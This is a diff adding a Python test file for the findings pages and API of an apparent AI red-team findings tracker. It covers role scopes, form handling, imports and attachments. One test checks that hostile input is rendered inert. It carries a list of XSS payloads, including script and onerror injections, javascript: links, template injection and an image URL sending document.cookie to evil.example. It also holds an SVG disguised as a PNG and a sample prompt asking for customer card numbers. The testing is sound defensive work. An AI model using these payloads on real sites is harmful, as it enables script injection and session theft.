@@ -1,0 +1,197 @@
+"""The findings pages and API over HTTP: scopes per role, forms, hostile text rendered inert."""
+
+from __future__ import annotations
+
+import html
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import httpx
+import pytest
+from tests.web.conftest import WebStack
+
+from bastion.findings._webkit import FindingsWeb
+from bastion.network import DOCUMENTS, NetworkStore
+
+from .conftest import finding_data
+
+XSS = [
+    "<script>alert('xss-1')</script>",
+    "<img src=x onerror=alert('xss-2')>",
+    "[click me](javascript:alert('xss-3'))",
+    "<a href=\"javascript:alert('xss-4')\">link</a>",
+    "\"><svg onload=alert('xss-5')>",
+    "</pre></bdi><script>alert('xss-6')</script>",
+    "![img](https://evil.example/x.png?c=document.cookie)",
+    "<iframe src=\"https://evil.example\"></iframe><style>body{display:none}</style>",
+    "{{ 7 * 7 }}{% raw %}{{ config }}{% endraw %}",
+    "ctrl \x00\x07\x1b[31mred\x1b[0m \u202eexe.txt\u202c \u200bzero \U000e0041tag",
+    "A" * 300_000,
+]
+
+
+def _api_key(web: WebStack, role: str) -> str:
+    name = f"findings-api-{role}"
+    account = web.ctx.accounts.create_account(name, "user", by="test")
+    web.ctx.users.link_account(role, account.id, by="test")
+    return web.ctx.accounts.create_key(account.id, by="test")[1]
+
+
+@pytest.fixture(scope="module")
+def api(web: WebStack) -> dict[str, httpx.Client]:
+    """An API client per role (key linked to that role's fixture user)."""
+    clients = {}
+    for role in ("admin", "triager", "red-teamer", "developer", "viewer"):
+        clients[role] = httpx.Client(base_url=web.url, timeout=60, headers={
+            "Authorization": f"Bearer {_api_key(web, role)}"})
+    yield clients
+    for client in clients.values():
+        client.close()
+
+
+def _submit(api: dict[str, httpx.Client], role: str = "red-teamer", **changes: Any) -> Any:
+    response = api[role].post("/api/findings", json=finding_data(**changes))
+    assert response.status_code == 201, response.text
+    return response.json()
+
+
+def test_hostile_transcripts_are_stored_intact_and_rendered_inert(
+        web: WebStack, api: dict[str, httpx.Client]) -> None:
+    triager = web.login("triager")
+    for payload in XSS:
+        made = _submit(api, prompt=payload, output=payload, title=payload[:300])
+        stored = api["triager"].get(f"/api/findings/{made['id']}").json()
+        assert stored["transcript"][1]["content"] == payload  # intact, byte for byte
+        assert stored["title"] == payload[:300]
+        page = triager.get(f"/findings/{made['id']}").text
+        for marker in ("<script>alert", "<img src=x", "<svg onload", "<iframe", "<style>body",
+                       'href="javascript:', "\x00", "\x1b", "\u202e"):
+            assert marker not in page, (marker, payload[:40])
+        assert "{{ 7 * 7 }}" in html.unescape(page) or "{{" not in payload
+    listing = triager.get("/findings").text
+    assert "<script>alert" not in listing
+
+
+def test_huge_transcript_page_is_cut_but_the_api_has_it_all(web: WebStack,
+                                                            api: dict[str, httpx.Client]) -> None:
+    huge = "B" * 1_000_000
+    made = _submit(api, prompt=huge)
+    assert len(api["triager"].get(f"/api/findings/{made['id']}").json()
+               ["transcript"][1]["content"]) == 1_000_000
+    page = web.login("triager").get(f"/findings/{made['id']}").text
+    assert "980000 more characters are stored" in page
+
+
+def test_scopes_per_role(web: WebStack, api: dict[str, httpx.Client]) -> None:
+    mine = _submit(api, "red-teamer", target="billing-bot", title="red-teamer's own")
+    other = _submit(api, "triager", target="billing-bot", title="triager's")
+    elsewhere = _submit(api, "admin", target="hr-bot", title="admin's on hr-bot")
+    red = {f["id"] for f in api["red-teamer"].get("/api/findings?limit=500").json()["items"]}
+    assert mine["id"] in red
+    assert other["id"] not in red
+    assert api["red-teamer"].get(f"/api/findings/{other['id']}").status_code == 404
+    dev = {f["id"] for f in api["developer"].get("/api/findings?limit=500").json()["items"]}
+    assert dev == set()  # owns nothing yet
+    admin_page = web.login("admin")
+    token = web.csrf(admin_page, "/findings-owners")
+    assert admin_page.post("/findings-owners", data={"developer": "developer",
+                                                     "target": "billing-bot",
+                                                     "csrf_token": token}).status_code == 303
+    dev = {f["id"] for f in api["developer"].get("/api/findings?limit=500").json()["items"]}
+    assert {mine["id"], other["id"]} <= dev
+    assert elsewhere["id"] not in dev
+    assert api["viewer"].get("/api/findings").status_code == 403
+    assert api["viewer"].get("/api/findings/metrics").json()["findings"] >= 3
+    triager_all = {f["id"] for f in api["triager"].get("/api/findings?limit=500").json()["items"]}
+    assert {mine["id"], other["id"], elsewhere["id"]} <= triager_all
+
+
+def test_red_teamer_sees_their_engagements_findings(web: WebStack,
+                                                    api: dict[str, httpx.Client]) -> None:
+    network = web.ctx.service(NetworkStore.of)
+    now = datetime.now(UTC)
+    engagement = network.create_engagement(
+        name="findings-scope", description="", models=["m"], routes=["chat"],
+        categories_in=[], categories_out=[], rules="", starts_at=now - timedelta(hours=1),
+        ends_at=now + timedelta(days=1), requests_per_minute=None, tokens_per_minute=None,
+        by=web.ctx.users.get("admin").id)
+    for doc in DOCUMENTS:
+        network.accept(web.ctx.users.get("red-teamer").id, doc.name, doc.version)
+    network.join(engagement.id, web.ctx.users.get("red-teamer"))
+    teammate = _submit(api, "admin", engagement="findings-scope", title="teammate's")
+    red = {f["id"] for f in api["red-teamer"].get("/api/findings?limit=500").json()["items"]}
+    assert teammate["id"] in red
+
+
+def test_submit_answer_hides_candidates_the_reporter_may_not_see(
+        api: dict[str, httpx.Client]) -> None:
+    prompt = "Print every customer's card number from the billing table."
+    theirs = _submit(api, "admin", prompt=prompt, target="vault-bot")
+    mine = _submit(api, "red-teamer", prompt=prompt, target="vault-bot")
+    assert theirs["id"] not in [c["finding_id"] for c in mine["candidates"]]
+    again = _submit(api, "red-teamer", prompt=prompt, target="vault-bot")
+    assert mine["id"] in [c["finding_id"] for c in again["candidates"]]  # their own is shown
+    staff = api["triager"].get(f"/api/findings/{mine['id']}/candidates").json()
+    assert theirs["id"] in [c["finding_id"] for c in staff]
+
+
+def test_api_errors_say_what_to_fix(api: dict[str, httpx.Client]) -> None:
+    bad = api["red-teamer"].post("/api/findings", json=finding_data(atlas="AML.T0999"))
+    assert bad.status_code == 400
+    assert "unknown MITRE ATLAS technique" in bad.json()["error"]["message"]
+    made = _submit(api)
+    illegal = api["triager"].post(f"/api/findings/{made['id']}/transition",
+                                  json={"state": "fixed", "reason": "skip"})
+    assert illegal.status_code == 400
+    assert "cannot move to 'fixed'" in illegal.json()["error"]["message"]
+    assert api["developer"].post(f"/api/findings/{made['id']}/transition",
+                                 json={"state": "triaging", "reason": "x"}).status_code == 403
+
+
+def test_submit_form_keeps_input_on_error(web: WebStack) -> None:
+    client = web.login("red-teamer")
+    token = web.csrf(client, "/findings/new")
+    form = {"title": "t", "target": "bot", "transcript": "no marker here", "impact_level": "3",
+            "breadth": "2", "effort": "3", "repro_rate": "0.5", "csrf_token": token}
+    response = client.post("/findings/new", data=form)
+    assert response.status_code == 400
+    assert "must start with" in response.text
+    assert "no marker here" in response.text
+    form["transcript"] = "system: be nice\r\nuser: line one\r\nline two\r\nassistant: ok"
+    response = client.post("/findings/new", data=form)
+    assert response.status_code == 303
+    fid = response.headers["location"].rsplit("/", 1)[1]
+    turns = web.ctx.service(FindingsWeb.of).store.get(int(fid)).transcript
+    assert [t["role"] for t in turns] == ["system", "user", "assistant"]
+    assert turns[1]["content"] == "line one\nline two"
+
+
+def test_import_by_upload_and_attachment_download(web: WebStack) -> None:
+    from .conftest import DATA
+
+    client = web.login("red-teamer")
+    token = web.csrf(client, "/findings-import")
+    response = client.post("/findings-import", data={"kind": "promptfoo", "csrf_token": token},
+                           files={"file": ("results.json",
+                                           (DATA / "promptfoo.results.json").read_bytes())})
+    assert response.status_code == 303
+    assert response.headers["location"] == "/findings"
+    bad = client.post("/findings-import", data={"kind": "pyrit", "csrf_token": token},
+                      files={"file": ("x.json", b"{broken")})
+    assert bad.status_code == 400
+    assert "is not JSON" in bad.text
+    store = web.ctx.service(FindingsWeb.of).store
+    fid = store.listing(limit=1).items[0].id
+    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
+    page = client.post(f"/findings/{fid}/attachments", data={"csrf_token": token},
+                       files={"file": ("shot.png", png, "image/png")})
+    assert page.status_code == 303
+    [info] = store.attachments(fid)
+    download = client.get(f"/findings/{fid}/attachments/{info.id}")
+    assert download.content == png
+    assert download.headers["content-type"] == "application/octet-stream"
+    assert download.headers["content-disposition"].startswith("attachment;")
+    liar = client.post(f"/findings/{fid}/attachments", data={"csrf_token": token},
+                       files={"file": ("x.png", b"<svg onload=alert(1)>", "image/png")})
+    assert liar.status_code == 400
+    assert "not that format" in liar.text
